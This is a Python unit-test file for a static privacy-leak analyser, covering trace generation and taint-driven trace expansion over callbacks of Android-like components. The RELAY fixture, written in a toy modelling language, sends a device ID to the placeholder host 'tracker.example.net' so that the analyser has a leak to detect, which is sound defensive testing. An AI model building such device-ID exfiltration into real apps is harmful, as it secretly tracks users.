"""Tests for basic trace generation and trace expansion."""

import unittest

from leak_analytics.appmodel import default_catalog, parse_program
from leak_analytics.benchmark import default_corpus_dir
from leak_analytics.config import AnalysisConfig
from leak_analytics.errors import TraceGenerationError
from leak_analytics.executor import ExecutionTrace, expand_traces, generate_basic_traces
from leak_analytics.static import build_call_graph, component_sources, entry_points_for_source

ENTRIES = """
app Entries {
  component Activity C {
    field t: string;
    callback onCreate {
      a = getDeviceId();
    }
    callback onStart {
      x = 1;
    }
    callback onLowMemory {
      b = getLatitude();
      t = b;
    }
    listener onClick {
      c = getLongitude();
    }
  }
}
"""

RELAY = """
app Relay {
  component Activity C {
    field url: string = "";
    callback onCreate {
      url = "";
    }
    listener onClick {
      d = getDeviceId();
      url = "h.example.com/?id=" + d;
      conn = openConnection(url);
      url = url;
    }
    callback onDestroy {
      sendHttpRequest("tracker.example.net/?u=" + url);
    }
  }
}
"""


class TestBasicTraces(unittest.TestCase):
    """Test cases for generate_basic_traces."""

    def setUp(self):
        """Set up the catalog and configuration."""
        self.catalog = default_catalog()
        self.config = AnalysisConfig()

    def basic(self, program):
        component = program.components[0]
        graph = build_call_graph(component, self.catalog)
        entries = [entry_points_for_source(graph, s) for s in component_sources(component, self.catalog)]
        return generate_basic_traces(graph, entries, self.config)

    def test_click_trace(self):
        """Test the onCreate -> onClick trace."""
        text = (default_corpus_dir() / "EventOrdering1.aml").read_text(encoding="utf-8")
        traces = self.basic(parse_program(text))
        self.assertEqual([t.callbacks for t in traces], [("onCreate", "onClick")])
        self.assertEqual(traces[0].provenance, "basic")

    def test_source_entries(self):
        """Test traces for sources in onCreate, a registered callback and a listener."""
        traces = self.basic(parse_program(ENTRIES))
        self.assertEqual(
            [t.callbacks for t in traces],
            [("onCreate",), ("onCreate", "onLowMemory"), ("onCreate", "onClick")],
        )

    def test_trace_length_limit(self):
        """Test that overlong basic traces are skipped."""
        self.config = AnalysisConfig(max_trace_len=1)
        traces = self.basic(parse_program(ENTRIES))
        self.assertEqual([t.callbacks for t in traces], [("onCreate",)])

    def test_trace_must_start_with_on_create(self):
        """Test the trace start invariant."""
        with self.assertRaises(TraceGenerationError):
            ExecutionTrace("C", ("onClick",))


class TestExpansion(unittest.TestCase):
    """Test cases for expand_traces."""

    def setUp(self):
        """Set up the click/low-memory component."""
        text = (default_corpus_dir() / "EventOrdering1.aml").read_text(encoding="utf-8")
        self.component = parse_program(text).components[0]
        self.config = AnalysisConfig()
        self.base = ExecutionTrace("Activity1", ("onCreate", "onClick"))

    def test_reader_of_tmp(self):
        """Test that onLowMemory reads the tainted tmp."""
        seen = {self.base.callbacks}
        expanded = expand_traces(self.base, {"Activity1.tmp"}, self.component, self.config, seen)
        self.assertEqual([t.callbacks for t in expanded], [("onCreate", "onClick", "onLowMemory")])
        self.assertEqual(expanded[0].provenance, "expanded")
        self.assertEqual(expanded[0].added_callback, "onLowMemory")

    def test_reader_of_imei(self):
        """Test the second onLowMemory after imei is tainted."""
        trace = self.base.extend("onLowMemory")
        expanded = expand_traces(trace, {"Activity1.imei"}, self.component, self.config)
        self.assertEqual(
            [t.callbacks for t in expanded], [("onCreate", "onClick", "onLowMemory", "onLowMemory")]
        )

    def test_sender_not_appended_again(self):
        """Test that the callback that sent url is not appended for url."""
        trace = self.base.extend("onLowMemory").extend("onLowMemory")
        senders = {"Activity1.url": frozenset({"onLowMemory"})}
        expanded = expand_traces(trace, {"Activity1.url"}, self.component, self.config, None, senders)
        self.assertEqual(expanded, [])
        unsent = expand_traces(trace, {"Activity1.url"}, self.component, self.config)
        self.assertEqual([t.added_callback for t in unsent], ["onLowMemory"])

    def test_other_reader_of_sent_field(self):
        """Test that a reader other than the sender is still appended."""
        component = parse_program(RELAY).components[0]
        trace = ExecutionTrace("C", ("onCreate", "onClick"))
        senders = {"C.url": frozenset({"onClick"})}
        expanded = expand_traces(trace, {"C.url"}, component, self.config, None, senders)
        self.assertEqual([t.callbacks for t in expanded], [("onCreate", "onClick", "onDestroy")])

    def test_no_reader(self):
        """Test that untainted readers give no expansion."""
        self.assertEqual(expand_traces(self.base, set(), self.component, self.config), [])
        self.assertEqual(expand_traces(self.base, {"Other.tmp"}, self.component, self.config), [])

    def test_expansion_is_idempotent(self):
        """Test that repeating an expansion adds nothing."""
        seen = set()
        first = expand_traces(self.base, {"Activity1.tmp"}, self.component, self.config, seen)
        again = expand_traces(self.base, {"Activity1.tmp"}, self.component, self.config, seen)
        self.assertEqual(len(first), 1)
        self.assertEqual(again, [])

    def test_length_limit(self):
        """Test that expansion respects the trace length limit."""
        config = AnalysisConfig(max_trace_len=2)
        self.assertEqual(expand_traces(self.base, {"Activity1.tmp"}, self.component, config), [])


if __name__ == "__main__":
    unittest.main()
